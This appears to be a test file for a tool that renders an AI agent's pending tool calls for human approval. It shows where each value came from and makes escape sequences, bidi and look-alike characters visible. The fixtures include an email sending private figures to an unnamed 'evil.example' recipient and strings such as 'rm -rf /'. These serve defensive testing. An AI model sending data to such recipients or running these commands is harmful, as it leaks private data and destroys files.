import { describe, expect, test } from "vitest";
import { canonicalize } from "../kernel/canonical.ts";
import type { JsonObject } from "../kernel/json.ts";
import { plainText } from "./line.ts";
import { MAXIMUM_BYTES, MAXIMUM_LINES, renderAction, type ActionContext } from "./render-action.ts";
import { measureText } from "./width.ts";

const context: ActionContext = {
  risk: "reach",
  labels: ["untrusted", "private"],
  reasons: ["recipient-not-endorsed", "untrusted-and-private"],
  unendorsed: ["eve@evil.example"],
  provenance: [{ pointer: "/to/0", from: ["files/read_text_file #12"] }],
  before: { same: { asked: 1, allowed: 1, denied: 0 }, shape: { asked: 3, allowed: 2, denied: 1 } },
  found: null,
  code: "04h-tqk-b7h-xzh-4hk",
};

function action(args: JsonObject, change: JsonObject = {}): string {
  return canonicalize({
    v: 1,
    request: "00112233445566778899aabbccddeeff",
    agent: "demo",
    instance: "i-0123456789abcdef",
    verb: "call",
    driver: "mail",
    name: "send_email",
    arguments: args,
    ...change,
  });
}

function show(canonical: string, columns = 80): readonly string[] {
  const rendered = renderAction(canonical, { context, columns });
  if (rendered.kind === "refused") throw new Error(rendered.why);
  return rendered.lines.map(plainText);
}

test("an action is shown in full, with where its values came from", () => {
  expect(
    show(action({ to: ["eve@evil.example"], subject: "figures", urgent: true, body: "Q1,412000\nQ2,455000\n" })),
  ).toEqual([
    "mail/send_email  call a tool",
    "  agent     demo (i-0123456789abcdef)",
    "  risk      reach",
    "  labels    untrusted, private",
    "  held for  it goes to somebody that you did not name",
    "            the agent has read words from outside and private data",
    "  asked     once before, 1 allowed, 0 denied; alike 2 times before, 1 allowed, 1",
    "            denied",
    "",
    "arguments, in full:",
    "  /body",
    "    │ Q1,412000‹U+000A›",
    "    │ Q2,455000‹U+000A›",
    '  /subject  "figures"',
    '  /to/0  "eve@evil.example"',
    "    ← from files/read_text_file #12",
    "    ← you did not name this recipient",
    "  /urgent  true",
    "",
    "  code      04h-tqk-b7h-xzh-4hk",
    "  request   00112233445566778899aabbccddeeff",
  ]);
});

test("a value that was in nothing that the agent was shown is its own", () => {
  const provenance = [
    { pointer: "/to", from: [] },
    { pointer: "/n", from: [] },
  ];
  const rendered = renderAction(action({ to: "eve@evil.example", n: 12 }), {
    context: { ...context, provenance },
    columns: 80,
  });
  const text = rendered.kind === "shown" ? rendered.lines.map(plainText) : [];
  expect(text.filter((row) => row.includes("←"))).toEqual([
    "    ← the agent's own: in nothing that it was shown",
    "    ← you did not name this recipient",
  ]);
});

test("a request to the network says what it would do, from the bytes alone and with nothing hidden", () => {
  const request = {
    scheme: "https",
    host: "api.example",
    port: 443,
    method: "GET",
    path: "/a",
    target: `/a?${"x".repeat(90)}`,
    headers: [],
  };
  const rows = show(action(request, { driver: "net", name: "fetch" }));
  const [first = "", second = "", third = ""] = rows.slice(rows.findIndex((row) => row.includes("would do")));
  expect(first.slice(12) + second.slice(12)).toBe(`GET https://api.example/a?${"x".repeat(90)}`);
  expect(third).toBe("            without a body");
});

test("an action without arguments says so", () => {
  expect(show(action({}))).toContain("no arguments");
});

test("empty lists and objects, null, numbers and odd keys are shown", () => {
  const lines = show(action({ list: [], map: {}, nothing: null, n: 1.5, "a/b~c d\u202E": "x", "": "y" }));
  expect(lines).toContain("  /list  []");
  expect(lines).toContain("  /map  {}");
  expect(lines).toContain("  /nothing  null");
  expect(lines).toContain("  /n  1.5");
  expect(lines).toContain('  /a~1b~0c‹U+0020›d‹U+202E›  "x"');
  expect(lines).toContain('  /  "y"');
});

describe("what deceives is shown as it is", () => {
  test.each([
    ["ANSI", "\u001b[2J\u001b[31mx", "‹U+001B›[2J‹U+001B›[31mx"],
    ["OSC 8", "\u001b]8;;x\u001b\\y", "‹U+001B›]8;;x‹U+001B›\\y"],
    ["bidi", "a\u202Eb", "a‹U+202E›b"],
    ["zero width", "a\u200Bb", "a‹U+200B›b"],
    ["tags", "a\u{E0061}", "a‹U+E0061›"],
    ["carriage return", "rm -rf x\rls", "rm -rf x‹U+000D›ls"],
    ["look-alikes", "m\u0430ria@example.org", "m‹U+0430›ria@example.org"],
    ["trailing space", "program ", "program‹U+0020›"],
  ])("%s", (_name, value, shown) => {
    expect(show(action({ x: value }))).toContain(`  /x  "${shown}"`);
  });

  test("a value cannot pass for a line of ours", () => {
    const lines = show(action({ x: 'a"\n  risk     observe\n    ← you named this' }));
    expect(lines).toContain("    │   risk     observe‹U+000A›");
    expect(lines.filter((shown) => shown.startsWith("  risk"))).toEqual(["  risk      reach"]);
  });

  test("no line is wider than the screen, and a long tail is wrapped, not cut", () => {
    const value = `${"a".repeat(500)} rm -rf /`;
    const lines = show(action({ x: value }), 60);
    expect(Math.max(...lines.map(measureText))).toBeLessThanOrEqual(60);
    const rows = lines.filter((shown) => /^ {4}[│┊] /u.test(shown)).map((shown) => shown.slice(6));
    expect(rows.join("")).toBe(value);
  });

  test("wide characters wrap by columns", () => {
    expect(Math.max(...show(action({ x: "漢".repeat(200) }), 60).map(measureText))).toBeLessThanOrEqual(60);
  });
});

describe("what cannot be shown in full is refused", () => {
  test("too many lines", () => {
    const canonical = action({ x: "\n".repeat(MAXIMUM_LINES) });
    expect(renderAction(canonical, { context, columns: 80 })).toEqual({
      kind: "refused",
      why: "the action takes more than 200 lines to show in full",
    });
  });
  test("just as many lines as fit are shown", () => {
    expect(show(action({ x: "x\n".repeat(MAXIMUM_LINES - 30) })).length).toBeLessThanOrEqual(MAXIMUM_LINES);
  });
  test("too many bytes", () => {
    expect(renderAction(action({ x: "a".repeat(MAXIMUM_BYTES) }), { context, columns: 80 }).kind).toBe("refused");
  });
  test.each([
    ["another order of keys", action({ a: 1, b: 2 }).replace('"a":1,"b":2', '"b":2,"a":1')],
    ["a key twice", action({ a: 1 }).replace('"a":1', '"a":1,"a":2')],
    ["an unknown field", action({}, { approved: true })],
    ["space between", ` ${action({})}`],
    ["no action at all", "{}"],
    ["no JSON", "rm -rf /"],
  ])("not canonical: %s", (_name, canonical) => {
    expect(renderAction(canonical, { context, columns: 80 })).toEqual({
      kind: "refused",
      why: "the action is not in canonical form",
    });
  });
});
